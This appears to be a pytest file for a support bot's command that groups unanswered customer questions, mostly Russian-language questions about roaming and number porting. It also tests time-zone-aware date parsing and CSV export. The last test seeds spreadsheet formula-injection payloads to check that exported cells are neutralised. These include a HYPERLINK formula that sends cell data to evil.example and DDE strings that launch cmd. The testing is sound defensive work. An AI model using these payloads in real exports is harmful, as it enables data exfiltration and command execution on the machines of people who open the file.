"""`dono unanswered`: paraphrases of one missing question are grouped, with counts."""

import argparse
import asyncio
import csv
import io
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from bot.cli import main, parse_since
from handoff.storage import Store
from knowledge.unanswered import cluster, question_key

ROOT = Path(__file__).parent.parent.parent

SEED = [
    # one missing topic asked five ways: roaming in Turkey prices
    ("сколько стоит роуминг в турции", "none"),
    ("роуминг в Турции сколько стоит?", "none"),
    ("стоимость роуминга в турции", "clarify"),
    ("роуминг турция цена", "none"),
    ("skolko stoit rouming v turcii", "none"),
    # another: how to get a mobile number transferred (MNP)
    ("как перейти к вам со своим номером", "none"),
    ("перейти со своим номером от другого оператора", "none"),
    ("перенос номера от другого оператора", "clarify"),
    # singles
    ("когда будет 5g", "none"),
    ("почему у вас такие дорогие тарифы", "dislike"),
]


def items(now: float = 1_000_000.0) -> list[dict]:
    return [{"text": t, "kind": k, "ts": now + i} for i, (t, k) in enumerate(SEED)]


def test_paraphrases_cluster_together() -> None:
    clusters = cluster(items())
    assert [c.count for c in clusters][:2] == [5, 3]
    assert sum(c.count for c in clusters) == len(SEED)
    turkey = clusters[0]
    assert "турц" in turkey.representative.lower() and turkey.kinds == {"none": 4, "clarify": 1}


def test_key_ignores_stopwords_and_word_order() -> None:
    assert question_key("как подключить роуминг") == question_key("роуминг подключить")
    assert question_key("👍 ?!") == ""


def test_since_parsing() -> None:
    assert parse_since("7d", now=1_000_000) == 1_000_000 - 7 * 86400
    assert parse_since("24h", now=100_000) == 100_000 - 86400
    assert parse_since("2026-11-01") > 0


def test_days_are_whole_local_days_today_included() -> None:
    """ "7d" in a time zone is seven calendar days, the first from its midnight: a report
    titled by its days says 7, and no day's conversations are cut in two."""
    zone = ZoneInfo("Asia/Dushanbe")
    now = datetime(2026, 12, 1, 15, 30, tzinfo=zone).timestamp()
    assert parse_since("7d", now=now, tz="Asia/Dushanbe") == (
        datetime(2026, 11, 25, tzinfo=zone).timestamp()
    )
    assert (
        parse_since("1d", now=now, tz="Asia/Dushanbe")
        == datetime(2026, 12, 1, tzinfo=zone).timestamp()
    )
    assert parse_since("24h", now=now, tz="Asia/Dushanbe") == now - 86400  # hours stay exact
    # a date without a zone is the desk's local midnight, not UTC's
    assert parse_since("2026-11-01", tz="Asia/Dushanbe") == (
        datetime(2026, 11, 1, tzinfo=zone).timestamp()
    )


@pytest.mark.parametrize("value", ["²d", "٣d", "99999999999999999999d", "7w", ""])
def test_since_refuses_odd_input_with_its_usage(value: str) -> None:
    with pytest.raises(argparse.ArgumentTypeError, match="--since"):
        parse_since(value, now=1_000_000)


async def _seed(db: Path) -> None:
    store = await Store.open(db)
    for text, kind in SEED:
        await store.touch_subscriber(7, 7, "S", None, "ru")
        if kind == "dislike":
            await store.log_interaction(7, text, text, "answer", "tariff_list", [], 0.9, "ru", 1)
            await store.add_feedback(7, "tariff_list", False)
        else:
            await store.log_interaction(7, text, text, kind, None, ["a", "b"], 0.4, "ru", 1)
    await store.log_interaction(7, "спасибо", "спасибо", "none", "thanks", [], 1.0, "ru", 1)
    await store.close()


def test_cli_text_and_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "dono.sqlite3"
    asyncio.run(_seed(db))
    args = ["unanswered", "--db", str(db), "--kb", str(ROOT / "kb"), "--since", "30d"]
    assert main(args) == 0
    out = capsys.readouterr().out
    assert out.startswith(f"{len(SEED)} unanswered or disliked questions in ")
    assert "спасибо" not in out  # smalltalk is not a miss
    assert main([*args, "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert int(rows[0]["count"]) == 5 and int(rows[1]["count"]) == 3
    assert any(r["dislike"] == "1" for r in rows)


def test_cli_without_database(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["unanswered", "--db", str(tmp_path / "none.sqlite3")]) == 2
    assert "no database yet" in capsys.readouterr().err


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tмой баланс",
    "\rмой тариф",
]


def test_csv_cells_cannot_start_a_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "dono.sqlite3"

    async def seed() -> None:
        store = await Store.open(db)
        await store.touch_subscriber(7, 7, "S", None, "ru")
        for text in HOSTILE:
            await store.log_interaction(7, text, text, "none", None, [], 0.1, "ru", 1)
        await store.close()

    asyncio.run(seed())
    args = ["unanswered", "--db", str(db), "--kb", str(ROOT / "kb"), "--since", "30d", "--csv"]
    assert main(args) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    cells = [cell for row in rows[1:] for cell in row[4:]]
    assert cells and all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    questions = {row[4] for row in rows[1:]}
    assert any(q.startswith("'=HYPERLINK(") for q in questions)  # kept, shown as text
